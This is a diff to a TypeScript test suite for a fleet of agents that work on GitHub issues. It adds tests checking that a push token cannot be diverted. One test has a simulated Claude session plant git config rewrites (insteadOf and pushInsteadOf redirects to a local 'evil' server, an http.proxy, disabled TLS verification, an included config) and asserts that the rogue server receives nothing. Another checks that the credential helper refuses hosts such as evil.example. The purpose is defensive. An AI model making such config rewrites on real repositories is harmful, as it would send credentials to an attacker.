@@ -7,7 +7,10 @@
  * and the second attempt opens the one pull request; the token appears in no argv, log, database, git config,
  * Claude environment, comment or pull request.
  */
-import { execFileSync } from "node:child_process";
+import { execFileSync, spawnSync } from "node:child_process";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { GIT_CREDENTIAL_HELPER } from "../../runtime/github.js";
 import { createHmac } from "node:crypto";
 import { readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -106,6 +109,48 @@ describe("github-issue tasks", () => {
     expect(repo.pulls[0]!.body).toContain(`task ${t.id} on node alpha`);
     expect(gh.calls.filter((c) => c.operationId === "pulls/update").map((c) => c.status)).toEqual([200]);
     expect(gh.violations).toEqual([]);
+  });
+
+  it("a checkout whose git config Claude rewrote (insteadOf to another host, a proxy, no TLS checks, an include): the push still goes to GitHub, the other host hears nothing", async () => {
+    const heard: string[] = [];
+    const evil = createServer((req, res) => {
+      heard.push(`${req.method} ${req.url} ${req.headers.authorization ?? "-"}`);
+      res.writeHead(401, { "www-authenticate": 'Basic realm="x"' }).end();
+    });
+    await new Promise<void>((r) => evil.listen(0, "127.0.0.1", r));
+    const evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+    try {
+      const plant = [
+        "echo third >> fix.txt",
+        `git config url.${evilUrl}/.insteadOf ${gh.url}/`,
+        `git config url.${evilUrl}/.pushInsteadOf ${gh.url}/`,
+        `git config http.proxy ${evilUrl}`,
+        "git config http.sslVerify false",
+        "git config include.path /nonexistent/planted.config",
+      ].join("; ");
+      const r = await submit(["acme/widgets#1", "alpha", "--prompt", `FAKE:exec=${plant}`]);
+      const t = JSON.parse(r.out.slice(r.out.indexOf("{")));
+      expect([r.code, t.state, t.error]).toEqual([0, "completed", null]);
+      expect(gh.git("acme", "widgets", ["show", "fleet/alpha/issue-1:fix.txt"])).toBe("fixed\nagain\nthird");
+      expect(heard).toEqual([]);
+    } finally {
+      await new Promise((r) => evil.close(r));
+    }
+  });
+
+  it.each([
+    ["the clone URL's protocol and host", "http", "127.0.0.1:8080", "password=tok-1234\n"],
+    ["another host", "http", "evil.example", null],
+    ["another port", "http", "127.0.0.1:8081", null],
+    ["another protocol", "https", "127.0.0.1:8080", null],
+  ])("the credential helper answers only for %s (git credential fill, for real)", (_what, protocol, host, answer) => {
+    const r = spawnSync("git", ["-c", "credential.helper=", "-c", `credential.helper=${GIT_CREDENTIAL_HELPER}`, "credential", "fill"], {
+      input: `protocol=${protocol}\nhost=${host}\n\n`,
+      encoding: "utf8",
+      env: { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_ASKPASS: "", SSH_ASKPASS: "", FLEET_GIT_PROTOCOL: "http", FLEET_GIT_HOST: "127.0.0.1:8080", FLEET_GIT_TOKEN: "tok-1234" },
+    });
+    if (answer === null) expect(r.status).not.toBe(0);
+    else expect([r.status, r.stdout.split("\n").filter((l) => l.startsWith("password="))[0] + "\n"]).toEqual([0, answer]);
   });
 
   it("a failing run comments on the issue (task id, what failed, last lines) and leaves the claim label; nothing is pushed", async () => {
